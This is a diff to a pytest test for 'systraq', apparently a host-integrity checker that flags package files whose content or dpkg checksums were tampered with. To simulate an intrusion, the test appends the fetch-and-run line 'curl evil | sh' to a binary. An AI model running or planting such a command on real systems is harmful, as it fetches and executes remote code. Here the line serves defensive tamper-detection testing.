@@ -5,7 +5,7 @@ import os
 
 import pytest
 
-from systraq import accounts, config, records, report, trees
+from systraq import accounts, config, packages, records, report, trees
 from systraq.spool import Spool
 
 
@@ -214,6 +214,8 @@ def _package(root, name, files):
 def test_a_changed_package_file_says_whether_it_still_matches_dpkgs_sums(system):
     root, conf = system
     _package(root, "tool", {"/usr/bin/tool": "#!/bin/sh\necho tool\n"})
+    # The daily package check read it as shipped.
+    packages.run(root.settings(), conf)
     path = root.host("/usr/bin/tool")
     with open(path, "a") as tool:
         tool.write("curl evil | sh\n")
@@ -224,8 +226,21 @@ def test_a_changed_package_file_says_whether_it_still_matches_dpkgs_sums(system)
     # Put back as it was, its times moved: the same content again.
     with open(path, "w") as tool:
         tool.write("#!/bin/sh\necho tool\n")
-    assert [r.line() for r in trees.run(root.settings(), conf).records] == [
-        "/usr/bin/tool: content changed (35 -> 20 bytes); still matches tool's sums"]
+    found = trees.run(root.settings(), conf).records
+    assert [r.line() for r in found] == [
+        "/usr/bin/tool: content changed (35 -> 20 bytes); content as the last package "
+        "check read it, matching tool's sums"]
+    assert found[0].rank == records.CHANGE
+    # The file and dpkg's sums changed together, as an intruder who knows
+    # debsums would: never a reassurance.
+    with open(path, "w") as tool:
+        tool.write("#!/bin/sh\necho evil\n")
+    _package(root, "tool", {"/usr/bin/tool": "#!/bin/sh\necho evil\n"})
+    found = trees.run(root.settings(), conf).records
+    assert [r.line() for r in found] == [
+        "/usr/bin/tool: content changed (20 -> 20 bytes); matches tool's sums, but not "
+        "what the last package check read (were the sums edited too?)"]
+    assert found[0].rank == records.SERIOUS
     # A file no package ships is told as it is.
     with open(root.host("/opt/app/run"), "a") as run:
         run.write("exit 0\n")
